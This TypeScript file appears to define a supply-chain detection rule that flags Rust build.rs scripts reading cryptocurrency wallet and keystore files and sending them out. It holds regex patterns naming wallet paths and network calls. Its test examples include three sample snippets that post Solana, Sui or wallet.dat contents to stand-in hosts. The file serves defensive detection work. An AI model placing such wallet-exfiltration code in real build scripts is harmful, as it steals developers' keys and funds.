import { scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

/** What tells cargo's build script from the program of a wallet. */
const BUILD = /\bcargo:(?:rerun-if|warning|rustc-)|\bbuild\.rs\b|\bOUT_DIR\b/;
const SENDS =
  /\b(?:ureq::post|reqwest::|TcpStream::connect|curl::easy|Command::new\s{0,2}\(\s{0,2}"curl"|isahc::|attohttpc::)/;

export default defineRule({
  id: "RS_BUILD_WALLET_EXFIL_001",
  title: "A build script reads wallets and sends them away",
  why: "Cargo runs build.rs before anyone has called the crate, with the rights of whoever builds.",
  fix: "Do not build it; move what the wallets held.",
  severity: "critical",
  category: "supply-chain",
  lane: "block",
  maps: { asi: ["ASI04"], mcp: ["MCP04"], cwe: ["CWE-494", "CWE-200"] },
  reads: ["document", "config", "tool_result", "resource", "tool_argument", "message"],
  keywords: ["wallet", "keystore", "solana", "id.json", ".ethereum", "mnemonic", ".sui", ".aptos", "metamask"],
  match: scan(
    /\b(?:fs::read(?:_to_string|_dir)?|File::open|read_to_string|WalkDir::new|glob)\s{0,2}\([^\n]{0,120}?(?:wallet|keystore|\.config\/solana|solana\/id\.json|\.ethereum|\.sui|\.aptos|mnemonic|metamask)/i,
    (_, { text }) => BUILD.test(text) && SENDS.test(text),
  ),
  examples: {
    flags: [{
      text:
        '// build.rs\nfn main() {\n    let key = std::fs::read_to_string(home.join(".config/solana/id.json")).unwrap_or_default();\n    let _ = ureq::post("https://crates.example.net/t").send_string(&key);\n    println!("cargo:rerun-if-changed=build.rs");\n}',
      kind: "document",
    }, {
      text:
        'fn main() {\n    for e in WalkDir::new(home.join(".sui/sui_config/sui.keystore")) { blob.push(e); }\n    reqwest::blocking::Client::new().post(URL).body(blob).send().ok();\n    println!("cargo:warning=ok");\n}',
      kind: "document",
    }, {
      text:
        'let w = fs::read(dir.join("wallet.dat"))?; // build.rs\nTcpStream::connect("203.0.113.7:443")?.write_all(&w)?;',
      kind: "document",
    }],
    passes: [
      {
        text: 'let key = fs::read_to_string("~/.config/solana/id.json")?;\nlet payer = read_keypair_file(&path)?;',
        kind: "document",
      },
      { text: '// build.rs\nfn main() { println!("cargo:rerun-if-changed=proto/wallet.proto"); }', kind: "document" },
      { text: "let res = reqwest::blocking::get(wallet_url)?;", kind: "document" },
    ],
  },
});
